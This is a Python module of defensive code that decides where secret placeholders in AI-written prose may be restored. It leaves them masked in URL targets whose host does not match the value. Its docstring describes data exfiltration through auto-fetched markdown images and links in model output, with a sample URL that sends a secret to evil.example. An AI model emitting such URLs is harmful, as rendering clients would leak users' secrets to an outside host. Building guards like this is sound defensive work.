"""Prose the model writes is restored everywhere except where a client fetches it by itself: URL targets.

A markdown image ``![x](https://evil.example/p.png?k=SECRET_x)``, a link target, an autolink ``<https://…>``, an
``src``/``href`` attribute or a bare URL is fetched by clients that render markdown (IDE panels, chat UIs) with no
click and no prompt, so a value restored there is sent to that URL's host. A placeholder inside a URL comes back
only when the URL's host is one the value belongs to (``ToolRestorer.allowed_host``); a placeholder in the host
itself, or a URL whose host cannot be read, keeps it.
"""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import urlsplit

_LOOK_BACK = 2048
_WORD_END = frozenset(" \t\r\n()<>\"'`[]{}|\\^")


def url_target(text: str, offset: int) -> tuple[bool, str | None]:
    """Whether the placeholder at ``offset`` sits in a URL, and that URL's host (None when it cannot be read or the
    placeholder is part of it). A placeholder that is the whole target of a link (``[x](PH)``, ``<PH>``,
    ``src="PH"``) is a URL whose host is the value's own: ``(True, "")``."""
    start = offset
    floor = max(0, offset - _LOOK_BACK)
    while start > floor and text[start - 1] not in _WORD_END:
        start -= 1
    left = text[start:offset]
    if not left:
        before = text[max(0, start - 6):start]
        if before.endswith("](") or before.endswith("<") or before.rstrip("\"'").endswith(("src=", "href=")):
            return True, ""
        return False, None
    sep = left.find("://")
    if sep < 0:
        if left.startswith("//"):
            left, sep = "http:" + left, 4
        elif left.lower().startswith("www."):
            left, sep = "http://" + left, 4
        else:
            return False, None
    rest = left[sep + 3:]
    if not any(c in rest for c in "/?#"):
        return True, None  # the placeholder is in the host (or the userinfo, which reads like it)
    try:
        host = urlsplit(left[max(0, sep - 32):] + "x").hostname
    except ValueError:
        return True, None
    return True, host.lower().rstrip(".") if host else None


def prose_guard(allowed_host: Callable[[str], Callable[[str], bool]], value_of: Callable[[str], str | None]
                ) -> Callable[[str, int, str], bool]:
    """A ``keep(text, offset, placeholder)`` for :func:`coatcheck.restore.restore`: True where the placeholder is in a
    URL target whose host the value does not belong to."""

    def keep(text: str, offset: int, placeholder: str) -> bool:
        is_url, host = url_target(text, offset)
        if not is_url:
            return False
        if host == "":
            value = value_of(placeholder) or ""
            try:
                host = urlsplit(value).hostname if "://" in value else None
            except ValueError:
                host = None
            if host is None:
                return "/" in value or "." in value
        if host is None:
            return True
        return not allowed_host(placeholder)(host)

    return keep
